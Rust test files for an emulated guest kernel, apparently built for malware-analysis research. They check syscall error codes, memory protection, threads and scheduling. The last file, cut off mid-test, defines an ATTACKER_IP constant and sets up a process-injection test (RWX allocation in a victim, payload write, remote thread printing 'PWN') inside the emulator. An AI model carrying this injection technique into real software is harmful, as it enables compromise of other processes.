//! degrade with precise NTSTATUS codes, never corrupt state, and never
//! panic, because malware exercises exactly these paths.

use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_emu::mmu::Perms;
use faros_kernel::event::{KernelEvents, NullObserver};
use faros_kernel::machine::{Machine, MachineConfig, RunExit, IMAGE_BASE};
use faros_kernel::module::{FdlImage, Section};
use faros_kernel::nt::{NtStatus, Sysno};
use faros_kernel::{Pid, Tid};
use faros_emu::cpu::CpuHooks;

const SCRATCH: u32 = IMAGE_BASE + 0x1000;

fn image(asm: Asm) -> FdlImage {
    let mut code = asm.assemble().unwrap();
    code.resize(0x2000, 0);
    FdlImage {
        entry: IMAGE_BASE,
        export_table_va: IMAGE_BASE + 0x10_0000,
        sections: vec![Section { va: IMAGE_BASE, data: code, perms: Perms::RWX }],
        exports: vec![],
    }
}

/// Collects syscall exits so tests can assert on statuses.
#[derive(Default)]
struct StatusTrace(Vec<(Sysno, NtStatus)>);

impl CpuHooks for StatusTrace {}
impl KernelEvents for StatusTrace {
    fn syscall_exit(&mut self, _pid: Pid, _tid: Tid, sysno: Sysno, status: NtStatus) {
        self.0.push((sysno, status));
    }
}

fn run_and_trace(asm: Asm) -> (Machine, Vec<(Sysno, NtStatus)>) {
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    let mut trace = StatusTrace::default();
    machine.spawn_process("C:/t.exe", false, None, &mut trace).unwrap();
    let exit = machine.run(5_000_000, &mut trace);
    assert_eq!(exit, RunExit::AllExited);
    (machine, trace.0)
}

fn sys(asm: &mut Asm, sysno: Sysno, args: &[(Reg, u32)]) {
    for &(reg, val) in args {
        asm.mov_ri(reg, val);
    }
    asm.mov_ri(Reg::Eax, sysno as u32);
    asm.int_syscall();
}

fn status_of(trace: &[(Sysno, NtStatus)], sysno: Sysno) -> NtStatus {
    trace
        .iter()
        .find(|(s, _)| *s == sysno)
        .unwrap_or_else(|| panic!("{sysno} not in trace"))
        .1
}

#[test]
fn invalid_handles_are_rejected_not_fatal() {
    let mut asm = Asm::new(IMAGE_BASE);
    sys(&mut asm, Sysno::NtReadFile, &[(Reg::Ebx, 0x998), (Reg::Ecx, SCRATCH), (Reg::Edx, 4), (Reg::Esi, 0)]);
    sys(&mut asm, Sysno::NtWriteFile, &[(Reg::Ebx, 0x998), (Reg::Ecx, SCRATCH), (Reg::Edx, 4), (Reg::Esi, 0)]);
    sys(&mut asm, Sysno::NtClose, &[(Reg::Ebx, 0x998)]);
    sys(&mut asm, Sysno::NtSocketSend, &[(Reg::Ebx, 0x998), (Reg::Ecx, SCRATCH), (Reg::Edx, 1), (Reg::Esi, 0)]);
    sys(&mut asm, Sysno::NtResumeThread, &[(Reg::Ebx, 0x998)]);
    asm.hlt();
    let (_machine, trace) = run_and_trace(asm);
    for sysno in [
        Sysno::NtReadFile,
        Sysno::NtWriteFile,
        Sysno::NtClose,
        Sysno::NtSocketSend,
        Sysno::NtResumeThread,
    ] {
        assert_eq!(status_of(&trace, sysno), NtStatus::InvalidHandle, "{sysno}");
    }
}

#[test]
fn bad_guest_pointers_return_access_violation() {
    let mut asm = Asm::new(IMAGE_BASE);
    // Create a real file handle first.
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtCreateFile, &[(Reg::Ecx, 4), (Reg::Edx, 0), (Reg::Esi, SCRATCH)]);
    // Then read into an unmapped buffer.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtWriteFile, &[(Reg::Ecx, 0x7000_0000), (Reg::Edx, 16), (Reg::Esi, 0)]);
    // And pass a wild path pointer.
    sys(&mut asm, Sysno::NtOpenFile, &[(Reg::Ebx, 0x7000_0000), (Reg::Ecx, 8), (Reg::Edx, 0)]);
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/f");
    let (_machine, trace) = run_and_trace(asm);
    assert_eq!(status_of(&trace, Sysno::NtWriteFile), NtStatus::AccessViolation);
    assert_eq!(status_of(&trace, Sysno::NtOpenFile), NtStatus::AccessViolation);
}

#[test]
fn missing_files_and_processes_not_found() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtOpenFile, &[(Reg::Ecx, 9), (Reg::Edx, 0)]);
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtDeleteFile, &[(Reg::Ecx, 9)]);
    sys(&mut asm, Sysno::NtOpenProcess, &[(Reg::Ebx, 999), (Reg::Ecx, 0)]);
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtCreateUserProcess, &[(Reg::Ecx, 9), (Reg::Edx, 0), (Reg::Esi, 0)]);
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/ghost!");
    let (_machine, trace) = run_and_trace(asm);
    assert_eq!(status_of(&trace, Sysno::NtOpenFile), NtStatus::ObjectNameNotFound);
    assert_eq!(status_of(&trace, Sysno::NtDeleteFile), NtStatus::ObjectNameNotFound);
    assert_eq!(status_of(&trace, Sysno::NtOpenProcess), NtStatus::ObjectNameNotFound);
    assert_eq!(
        status_of(&trace, Sysno::NtCreateUserProcess),
        NtStatus::ObjectNameNotFound
    );
}

#[test]
fn refused_connection_reports_connection_refused() {
    let mut asm = Asm::new(IMAGE_BASE);
    sys(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, SCRATCH)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(
        &mut asm,
        Sysno::NtSocketConnect,
        &[(Reg::Ecx, u32::from_be_bytes([9, 9, 9, 9])), (Reg::Edx, 80)],
    );
    asm.hlt();
    let (_machine, trace) = run_and_trace(asm);
    assert_eq!(
        status_of(&trace, Sysno::NtSocketConnect),
        NtStatus::ConnectionRefused
    );
}

#[test]
fn unknown_syscall_number_returns_not_implemented() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_ri(Reg::Eax, 0xdead);
    asm.int_syscall();
    // Status lands in EAX; stash it for inspection.
    asm.st4(M::abs(SCRATCH), Reg::Eax);
    asm.hlt();
    let (machine, _trace) = run_and_trace(asm);
    let pid = machine.process_by_name("t.exe").unwrap().pid;
    let got = machine.read_guest(pid, SCRATCH, 4).unwrap();
    assert_eq!(
        u32::from_le_bytes(got.try_into().unwrap()),
        NtStatus::NotImplemented as u32
    );
}

#[test]
fn protect_and_free_on_unmapped_regions_fail_cleanly() {
    let mut asm = Asm::new(IMAGE_BASE);
    sys(
        &mut asm,
        Sysno::NtProtectVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, 0x5000_0000), (Reg::Edx, 0x1000), (Reg::Esi, 0b111)],
    );
    sys(
        &mut asm,
        Sysno::NtFreeVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, 0x5000_0000)],
    );
    sys(
        &mut asm,
        Sysno::NtUnmapViewOfSection,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, 0x5000_0000)],
    );
    asm.hlt();
    let (_machine, trace) = run_and_trace(asm);
    assert_eq!(
        status_of(&trace, Sysno::NtProtectVirtualMemory),
        NtStatus::InvalidParameter
    );
    assert_eq!(status_of(&trace, Sysno::NtFreeVirtualMemory), NtStatus::InvalidParameter);
    assert_eq!(
        status_of(&trace, Sysno::NtUnmapViewOfSection),
        NtStatus::InvalidParameter
    );
}

#[test]
fn write_through_protect_transition_is_enforced() {
    // Alloc RW, write, protect to R, write again -> the second store
    // faults and kills the process (access violation exit code).
    let mut asm = Asm::new(IMAGE_BASE);
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, 0x1000), (Reg::Edx, 0b011), (Reg::Esi, SCRATCH)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    asm.mov_ri(Reg::Ecx, 0x41);
    asm.st1(M::reg(Reg::Ebx), Reg::Ecx); // fine: RW
    // Protect to read-only.
    asm.ld4(Reg::Ecx, M::abs(SCRATCH));
    sys(
        &mut asm,
        Sysno::NtProtectVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Edx, 0x1000), (Reg::Esi, 0b001)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    asm.mov_ri(Reg::Ecx, 0x42);
    asm.st1(M::reg(Reg::Ebx), Reg::Ecx); // faults
    asm.hlt();
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    machine.spawn_process("C:/t.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let proc = machine.process_by_name("t.exe").unwrap();
    assert_eq!(proc.exit_code, Some(0xC000_0005), "killed by access violation");
}

#[test]
fn suspend_resume_counts_nest() {
    // Suspend the current thread twice from a helper thread is overkill to
    // build in assembly; instead verify the nesting semantics through a
    // remote thread handle.
    let mut asm = Asm::new(IMAGE_BASE);
    // Spawn a sleeping child suspended, then resume it twice after a double
    // suspend: one resume must NOT be enough.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 8), (Reg::Edx, 1), (Reg::Esi, SCRATCH)],
    );
    // Thread handle at SCRATCH+4. Suspend once more (count -> 2).
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtSuspendThread, &[]);
    // Resume once (count -> 1): child must stay parked.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtResumeThread, &[]);
    // Resume again (count -> 0): child finally runs and prints.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 4));
    sys(&mut asm, Sysno::NtResumeThread, &[]);
    asm.hlt();
    asm.label("vpath");
    asm.raw(b"C:/c.exe");

    let mut child = Asm::new(IMAGE_BASE);
    child.mov_label(Reg::Ebx, "msg");
    sys(&mut child, Sysno::NtDisplayString, &[(Reg::Ecx, 5)]);
    child.hlt();
    child.label("msg");
    child.raw(b"child");

    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    machine.install_program("C:/c.exe", &image(child)).unwrap();
    machine.spawn_process("C:/t.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(machine.console()[0].1, "child");
}

#[test]
fn deadlocked_machine_is_reported() {
    // A thread blocking forever on a socket with no data: run() must
    // return Deadlocked, not hang.
    let mut asm = Asm::new(IMAGE_BASE);
    sys(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, SCRATCH)]);
    // Recv on an unconnected socket is InvalidDeviceState; to block we need
    // a connected socket with no traffic — use an endpoint that never sends.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(
        &mut asm,
        Sysno::NtSocketConnect,
        &[(Reg::Ecx, u32::from_be_bytes([10, 0, 0, 1])), (Reg::Edx, 1)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, SCRATCH + 16), (Reg::Edx, 8), (Reg::Esi, 0)],
    );
    asm.hlt();

    struct Mute;
    impl faros_kernel::net::RemoteEndpoint for Mute {
        fn on_data(&mut self, _d: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
    }
    let mut machine = Machine::new(MachineConfig::default());
    machine.net.add_endpoint([10, 0, 0, 1], 1, Box::new(Mute));
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    machine.spawn_process("C:/t.exe", false, None, &mut NullObserver).unwrap();
    // NetRecv counts as wakeable (data could still arrive), so the run ends
    // by budget, not by deadlock detection — but it must end.
    let exit = machine.run(500_000, &mut NullObserver);
    assert!(
        matches!(exit, RunExit::Budget | RunExit::Deadlocked),
        "blocked machine must not hang: {exit:?}"
    );
}

#[test]
fn instruction_budget_is_respected() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.label("spin");
    asm.add_ri(Reg::Eax, 1);
    asm.jmp("spin");
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    machine.spawn_process("C:/t.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(10_000, &mut NullObserver), RunExit::Budget);
}
