//! Coverage for section mapping, directory queries, multi-threading within
//! a process, and file metadata — the quieter corners of the syscall
//! surface.

use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_emu::mmu::Perms;
use faros_kernel::event::NullObserver;
use faros_kernel::machine::{Machine, MachineConfig, RunExit, IMAGE_BASE};
use faros_kernel::module::{FdlImage, Section};
use faros_kernel::nt::Sysno;

const SCRATCH: u32 = IMAGE_BASE + 0x1000;

fn image(asm: Asm) -> FdlImage {
    let mut code = asm.assemble().unwrap();
    code.resize(0x2000, 0);
    FdlImage {
        entry: IMAGE_BASE,
        export_table_va: IMAGE_BASE + 0x10_0000,
        sections: vec![Section { va: IMAGE_BASE, data: code, perms: Perms::RWX }],
        exports: vec![],
    }
}

fn sys(asm: &mut Asm, sysno: Sysno, args: &[(Reg, u32)]) {
    for &(reg, val) in args {
        asm.mov_ri(reg, val);
    }
    asm.mov_ri(Reg::Eax, sysno as u32);
    asm.int_syscall();
}

fn run(asm: Asm, setup: impl FnOnce(&mut Machine)) -> Machine {
    let mut machine = Machine::new(MachineConfig::default());
    setup(&mut machine);
    machine.install_program("C:/t.exe", &image(asm)).unwrap();
    machine.spawn_process("C:/t.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    machine
}

#[test]
fn map_view_of_section_exposes_file_bytes() {
    let mut asm = Asm::new(IMAGE_BASE);
    // h = NtOpenFile("C:/blob"); section = NtCreateSection(h);
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtOpenFile, &[(Reg::Ecx, 7), (Reg::Edx, SCRATCH)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtCreateSection, &[(Reg::Ecx, SCRATCH + 4)]);
    // NtMapViewOfSection(section, 0x0500_0000, R)
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 4));
    sys(
        &mut asm,
        Sysno::NtMapViewOfSection,
        &[(Reg::Ecx, 0x0500_0000), (Reg::Edx, 0b001)],
    );
    // Read the mapped bytes and print them.
    sys(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, 0x0500_0000), (Reg::Ecx, 6)],
    );
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/blob");
    let machine = run(asm, |m| {
        m.fs.create("C:/blob", b"MAPPED".to_vec()).unwrap();
    });
    assert_eq!(machine.console()[0].1, "MAPPED");
    // The view is recorded as a Mapped VAD region (what malfind skips).
    let proc = machine.process_by_name("t.exe").unwrap();
    let region = proc.region_containing(0x0500_0000).unwrap();
    assert!(matches!(
        region.kind,
        faros_kernel::process::RegionKind::Mapped { ref path } if path == "C:/blob"
    ));
}

#[test]
fn query_directory_lists_matching_files() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "prefix");
    sys(
        &mut asm,
        Sysno::NtQueryDirectoryFile,
        &[(Reg::Ecx, 8), (Reg::Edx, SCRATCH + 0x100), (Reg::Esi, 64)],
    );
    sys(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, SCRATCH + 0x100), (Reg::Ecx, 27)],
    );
    asm.hlt();
    asm.label("prefix");
    asm.raw(b"C:/docs/");
    let machine = run(asm, |m| {
        m.fs.create("C:/docs/a.txt", vec![]).unwrap();
        m.fs.create("C:/docs/b.txt", vec![]).unwrap();
        m.fs.create("C:/other.txt", vec![]).unwrap();
    });
    assert_eq!(machine.console()[0].1, "C:/docs/a.txt\nC:/docs/b.txt");
}

#[test]
fn query_information_file_reports_size_and_version() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "path");
    sys(&mut asm, Sysno::NtOpenFile, &[(Reg::Ecx, 7), (Reg::Edx, SCRATCH)]);
    asm.ld4(Reg::Ebx, M::abs(SCRATCH));
    sys(&mut asm, Sysno::NtQueryInformationFile, &[(Reg::Ecx, SCRATCH + 8)]);
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/info");
    let machine = run(asm, |m| {
        m.fs.create("C:/info", vec![7; 123]).unwrap();
        m.fs.write("C:/info", 0, &[1]).unwrap(); // version -> 2
    });
    let pid = machine.process_by_name("t.exe").unwrap().pid;
    let out = machine.read_guest(pid, SCRATCH + 8, 8).unwrap();
    assert_eq!(u32::from_le_bytes(out[..4].try_into().unwrap()), 123);
    assert_eq!(u32::from_le_bytes(out[4..].try_into().unwrap()), 2);
}

#[test]
fn two_threads_in_one_process_interleave() {
    // Main thread spawns a second thread in the SAME process via
    // NtCreateThreadEx(self); both loop printing, then exit.
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ecx, "worker");
    asm.mov_ri(Reg::Ebx, 0xffff_ffff);
    asm.mov_ri(Reg::Edx, 0);
    asm.mov_ri(Reg::Esi, 0);
    asm.mov_ri(Reg::Edi, 0);
    asm.mov_ri(Reg::Eax, Sysno::NtCreateThreadEx as u32);
    asm.int_syscall();
    // Main prints M three times with sleeps.
    asm.mov_ri(Reg::Ebp, 3);
    asm.label("main_loop");
    asm.mov_label(Reg::Ebx, "m");
    asm.mov_ri(Reg::Ecx, 1);
    asm.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    asm.int_syscall();
    sys(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 100)]);
    asm.sub_ri(Reg::Ebp, 1);
    asm.cmp_ri(Reg::Ebp, 0);
    asm.jnz("main_loop");
    asm.hlt();
    // Worker prints W twice.
    asm.label("worker");
    asm.mov_ri(Reg::Ebp, 2);
    asm.label("w_loop");
    asm.mov_label(Reg::Ebx, "w");
    asm.mov_ri(Reg::Ecx, 1);
    asm.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    asm.int_syscall();
    sys(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 100)]);
    asm.sub_ri(Reg::Ebp, 1);
    asm.cmp_ri(Reg::Ebp, 0);
    asm.jnz("w_loop");
    asm.hlt();
    asm.label("m");
    asm.raw(b"M");
    asm.label("w");
    asm.raw(b"W");
    let machine = run(asm, |_| {});
    let line: String = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    let ms = line.matches('M').count();
    let ws = line.matches('W').count();
    assert_eq!(ms, 3, "main printed three times: {line}");
    assert_eq!(ws, 2, "worker printed twice: {line}");
}

#[test]
fn query_virtual_memory_reports_vad_info() {
    let mut asm = Asm::new(IMAGE_BASE);
    // Allocate RW memory, then query it.
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, 0x3000), (Reg::Edx, 0b011), (Reg::Esi, SCRATCH)],
    );
    asm.ld4(Reg::Ecx, M::abs(SCRATCH));
    asm.add_ri(Reg::Ecx, 0x100); // query an interior address
    sys(
        &mut asm,
        Sysno::NtQueryVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Edx, SCRATCH + 0x10)],
    );
    // Also query the image region.
    sys(
        &mut asm,
        Sysno::NtQueryVirtualMemory,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, IMAGE_BASE + 4), (Reg::Edx, SCRATCH + 0x20)],
    );
    asm.hlt();
    let machine = run(asm, |_| {});
    let pid = machine.process_by_name("t.exe").unwrap().pid;
    let heap = machine.read_guest(pid, SCRATCH + 0x10, 16).unwrap();
    let words: Vec<u32> = heap.chunks(4).map(|c| u32::from_le_bytes(c.try_into().unwrap())).collect();
    assert_eq!(words[0], 0x0100_0000, "region base");
    assert_eq!(words[1], 0x3000, "region size");
    assert_eq!(words[2], 0b011, "RW perms bits");
    assert_eq!(words[3], 1, "kind: private");
    let image = machine.read_guest(pid, SCRATCH + 0x20, 16).unwrap();
    let words: Vec<u32> = image.chunks(4).map(|c| u32::from_le_bytes(c.try_into().unwrap())).collect();
    assert_eq!(words[0], IMAGE_BASE);
    assert_eq!(words[3], 0, "kind: image");
}

#[test]
fn query_information_process_reports_identity_and_parent() {
    // Parent spawns a child; the child reports its own info and queries the
    // parent handle it... keep simple: the parent queries itself and the child.
    let mut asm = Asm::new(IMAGE_BASE);
    sys(
        &mut asm,
        Sysno::NtQueryInformationProcess,
        &[(Reg::Ebx, 0xffff_ffff), (Reg::Ecx, SCRATCH)],
    );
    asm.mov_label(Reg::Ebx, "cpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 8), (Reg::Edx, 1), (Reg::Esi, SCRATCH + 0x20)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x20));
    sys(&mut asm, Sysno::NtQueryInformationProcess, &[(Reg::Ecx, SCRATCH + 0x30)]);
    // Terminate the suspended child so the run ends.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x20));
    sys(&mut asm, Sysno::NtTerminateProcess, &[(Reg::Ecx, 0)]);
    asm.hlt();
    asm.label("cpath");
    asm.raw(b"C:/c.exe");
    let mut child = Asm::new(IMAGE_BASE);
    child.hlt();
    let machine = run(asm, |m| {
        m.install_program("C:/c.exe", &image(child)).unwrap();
    });
    let parent = machine.process_by_name("t.exe").unwrap();
    let child_proc = machine.process_by_name("c.exe").unwrap();
    let own = machine.read_guest(parent.pid, SCRATCH, 12).unwrap();
    let words: Vec<u32> = own.chunks(4).map(|c| u32::from_le_bytes(c.try_into().unwrap())).collect();
    assert_eq!(words[0], parent.pid.0);
    assert_eq!(words[1], 0, "no parent");
    let child_info = machine.read_guest(parent.pid, SCRATCH + 0x30, 12).unwrap();
    let words: Vec<u32> =
        child_info.chunks(4).map(|c| u32::from_le_bytes(c.try_into().unwrap())).collect();
    assert_eq!(words[0], child_proc.pid.0);
    assert_eq!(words[1], parent.pid.0, "parent recorded");
    assert_eq!(words[2], 1, "alive at query time");
}

#[test]
fn query_system_time_is_monotonic() {
    let mut asm = Asm::new(IMAGE_BASE);
    sys(&mut asm, Sysno::NtQuerySystemTime, &[(Reg::Ebx, SCRATCH)]);
    sys(&mut asm, Sysno::NtDelayExecution, &[(Reg::Ebx, 500)]);
    sys(&mut asm, Sysno::NtQuerySystemTime, &[(Reg::Ebx, SCRATCH + 4)]);
    asm.hlt();
    let machine = run(asm, |_| {});
    let pid = machine.process_by_name("t.exe").unwrap().pid;
    let bytes = machine.read_guest(pid, SCRATCH, 8).unwrap();
    let t1 = u32::from_le_bytes(bytes[..4].try_into().unwrap());
    let t2 = u32::from_le_bytes(bytes[4..].try_into().unwrap());
    assert!(t2 >= t1 + 500, "sleep must advance virtual time: {t1} -> {t2}");
}

#[test]
fn two_processes_interleave_under_round_robin() {
    // Two CPU-bound processes must both make progress (no starvation).
    fn spinner(tag: &str) -> Asm {
        let mut asm = Asm::new(IMAGE_BASE);
        asm.mov_ri(Reg::Ebp, 3);
        asm.label("outer");
        // Burn more than one timeslice (default 200 instructions).
        asm.mov_ri(Reg::Ecx, 300);
        asm.label("burn");
        asm.sub_ri(Reg::Ecx, 1);
        asm.cmp_ri(Reg::Ecx, 0);
        asm.jnz("burn");
        asm.mov_label(Reg::Ebx, "tag");
        sys(&mut asm, Sysno::NtDisplayString, &[(Reg::Ecx, 1)]);
        asm.sub_ri(Reg::Ebp, 1);
        asm.cmp_ri(Reg::Ebp, 0);
        asm.jnz("outer");
        asm.hlt();
        asm.label("tag");
        asm.raw(tag.as_bytes());
        asm
    }
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/a.exe", &image(spinner("A"))).unwrap();
    machine.install_program("C:/b.exe", &image(spinner("B"))).unwrap();
    machine.spawn_process("C:/a.exe", false, None, &mut NullObserver).unwrap();
    machine.spawn_process("C:/b.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let line: String = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    assert_eq!(line.matches('A').count(), 3);
    assert_eq!(line.matches('B').count(), 3);
    // Interleaving: the output is not all-A-then-all-B.
    assert_ne!(line, "AAABBB");
    assert_ne!(line, "BBBAAA");
}
