//! End-to-end tests of the guest kernel: programs assembled to FE32, run
//! through the scheduler, exercising the syscall surface the FAROS attacks
//! are built on.

use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_emu::mmu::Perms;
use faros_kernel::event::{ByteRange, CopyRun, KernelEvents, NullObserver};
use faros_kernel::machine::{Machine, MachineConfig, RunExit, IMAGE_BASE};
use faros_kernel::module::{FdlImage, Section};
use faros_kernel::net::{NetworkFabric, RemoteEndpoint};
use faros_kernel::nt::Sysno;
use faros_kernel::{FlowTuple, Pid, Tid};
use faros_emu::cpu::CpuHooks;

const ATTACKER_IP: [u8; 4] = [169, 254, 26, 161];

fn image_from_asm(asm: Asm) -> FdlImage {
    let mut code = asm.assemble().expect("test program assembles");
    // Pad the section so the scratch area (IMAGE_BASE + 0x1000 / + 0x2000)
    // used by the tests is mapped.
    code.resize(0x3000, 0);
    FdlImage {
        entry: IMAGE_BASE,
        export_table_va: IMAGE_BASE + 0x0010_0000,
        sections: vec![Section { va: IMAGE_BASE, data: code, perms: Perms::RWX }],
        exports: vec![],
    }
}

/// Emit `int 0x2e` with the given service and register args.
fn syscall(asm: &mut Asm, sysno: Sysno, args: &[(Reg, u32)]) {
    for &(reg, val) in args {
        asm.mov_ri(reg, val);
    }
    asm.mov_ri(Reg::Eax, sysno as u32);
    asm.int_syscall();
}

fn run_machine(asm: Asm) -> Machine {
    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/test.exe", &image_from_asm(asm))
        .unwrap();
    machine
        .spawn_process("C:/test.exe", false, None, &mut NullObserver)
        .unwrap();
    let exit = machine.run(5_000_000, &mut NullObserver);
    assert_eq!(exit, RunExit::AllExited, "test program must terminate");
    machine
}

#[test]
fn display_string_reaches_console() {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, 5);
    asm.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    asm.int_syscall();
    asm.hlt();
    asm.label("msg");
    asm.raw(b"hello");
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "hello");
}

#[test]
fn file_write_then_read_round_trips() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    // h = NtCreateFile("C:/out.txt")
    asm.mov_label(Reg::Ebx, "path");
    syscall(
        &mut asm,
        Sysno::NtCreateFile,
        &[(Reg::Ecx, 10), (Reg::Edx, 0), (Reg::Esi, scratch)],
    );
    // NtWriteFile(h, "DATA", 4)
    asm.ld4(Reg::Ebx, M::abs(scratch)); // handle
    asm.mov_label(Reg::Ecx, "data");
    syscall(&mut asm, Sysno::NtWriteFile, &[(Reg::Edx, 4), (Reg::Esi, 0)]);
    // seek back to 0
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSetInformationFile, &[(Reg::Ecx, 0)]);
    // NtReadFile(h, buf, 4) into scratch+8
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtReadFile,
        &[(Reg::Ecx, scratch + 8), (Reg::Edx, 4), (Reg::Esi, 0)],
    );
    // print the read-back bytes
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, scratch + 8), (Reg::Ecx, 4)],
    );
    asm.hlt();
    asm.label("path");
    asm.raw(b"C:/out.txt");
    asm.label("data");
    asm.raw(b"DATA");
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "DATA");
    assert_eq!(machine.fs.read("C:/out.txt", 0, 16).unwrap(), b"DATA");
}

#[test]
fn virtual_alloc_is_usable_memory() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    // NtAllocateVirtualMemory(self, 0x2000, RW, &base)
    syscall(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ebx, 0xffff_ffff),
            (Reg::Ecx, 0x2000),
            (Reg::Edx, 0b011),
            (Reg::Esi, scratch),
        ],
    );
    // store through the returned base, read back, print length-1 marker
    asm.ld4(Reg::Ebx, M::abs(scratch));
    asm.mov_ri(Reg::Ecx, 0x5a);
    asm.st1(M::reg(Reg::Ebx), Reg::Ecx);
    asm.ld1(Reg::Edx, M::reg(Reg::Ebx));
    asm.st1(M::abs(scratch + 4), Reg::Edx);
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, scratch + 4), (Reg::Ecx, 1)],
    );
    asm.hlt();
    let machine = run_machine(asm);
    assert_eq!(machine.console()[0].1, "Z");
}

#[test]
fn cross_process_write_and_remote_thread() {
    // Victim: waits forever (sleep loop). Injector: allocates RWX in victim,
    // writes a tiny payload, starts a remote thread running it; the payload
    // prints "PWN" and exits the victim process.
    let mut victim = Asm::new(IMAGE_BASE);
    victim.label("loop");
    syscall(&mut victim, Sysno::NtDelayExecution, &[(Reg::Ebx, 1000)]);
    victim.jmp("loop");

    // The payload, assembled at a fixed address the injector will request.
    // (Payload is position-dependent; injector allocates exactly there.)
    let payload_base = 0x0100_0000; // first NtAllocateVirtualMemory result
    let mut payload = Asm::new(payload_base);
    payload.mov_label(Reg::Ebx, "pmsg");
